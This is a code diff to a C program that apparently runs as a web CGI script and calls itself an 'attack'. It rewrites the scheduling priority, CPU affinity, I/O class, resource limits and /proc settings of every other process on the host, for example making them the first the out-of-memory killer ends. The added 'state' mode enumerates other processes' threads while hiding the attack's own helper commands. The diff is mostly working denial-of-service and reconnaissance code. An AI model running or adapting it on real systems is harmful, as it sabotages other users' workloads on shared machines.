@@ -1,5 +1,6 @@
 // A program that changes limits, priority, class, affinity and I/O class of every process but itself, or of one. The query says which:
 // "attack" or "attack:PID". "files" writes into /proc/PID; "marks" changes RLIMIT_LOCKS; "itself" changes the program's own; "stay" runs on.
+// "state" prints what could be changed of each thread of all other processes, but those of the attack's script: a line begins with the thread's folder.
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -13,7 +14,7 @@
 #include <sys/resource.h>
 #include <sys/syscall.h>
 #include <unistd.h>
-enum { PROCESSES = 2000, IOPRIO_IDLE = 3 << 13 };
+enum { PROCESSES = 1000, IOPRIO_IDLE = 3 << 13 };
 struct attributes { unsigned size, policy; unsigned long long flags; int nice; unsigned priority; unsigned long long rest[4]; };
 
 static void put(int process, const char *file, const char *text) {
@@ -53,7 +54,7 @@ static void attack(int process) {
 }
 static void files(int process) {
     put(process, "oom_score_adj", "1000");
-    put(process, "autogroup", "19");
+    put(process, "autogroup", "0"); // 19 would slow down all of the attack
     put(process, "coredump_filter", "0x7f");
     put(process, "timerslack_ns", "1000000000");
     put(process, "clear_refs", "5");
@@ -100,7 +101,36 @@ static void itself(void) {
     printf("ioprio %d ", syscall(SYS_ioprio_set, 1, 0, IOPRIO_IDLE) == 0);
     printf("others' limit read %d\n", prlimit(getpid(), RLIMIT_NOFILE, NULL, &few) == 0 && getpriority(PRIO_PROCESS, getpid()) == 3);
 }
+static void state_of(int process, int thread) {
+    cpu_set_t set;
+    char comm[64], name[32] = "";
+    snprintf(comm, sizeof comm, "/proc/%d/comm", process);
+    FILE *file = fopen(comm, "r");
+    if (!file || !fgets(name, sizeof name, file)) return;
+    fclose(file);
+    if (strstr("bash\ntimeout\nsort\ncurl\nsh\n", name)) return;
+    CPU_ZERO(&set);
+    sched_getaffinity(thread, sizeof set, &set);
+    printf("/proc/%d/task/%d nice %d class %d processors %d ioprio %ld limits", process, thread, getpriority(PRIO_PROCESS, thread),
+           sched_getscheduler(thread), CPU_COUNT(&set), syscall(SYS_ioprio_get, 1, thread));
+    struct rlimit old;
+    for (int limit = 0; limit < 16; limit++)
+        if (prlimit(process, limit, NULL, &old) == 0) printf(" %lu/%lu", old.rlim_cur, old.rlim_max);
+    printf("\n");
+}
+static void state(void) {
+    for (int process = 1; process < 4 * PROCESSES; process++) {
+        char tasks[64];
+        snprintf(tasks, sizeof tasks, "/proc/%d/task", process);
+        DIR *folder = process == getpid() ? NULL : opendir(tasks);
+        struct dirent *entry;
+        while (folder && (entry = readdir(folder)))
+            if (atoi(entry->d_name)) state_of(process, atoi(entry->d_name));
+        if (folder) closedir(folder);
+    }
+}
 int main(void) {
+    if (getenv("QUERY_STRING") && !strcmp(getenv("QUERY_STRING"), "state")) return state(), 0;
     const char *query = getenv("QUERY_STRING");
     printf("Content-Type: text/plain\n\n");
     fflush(stdout);
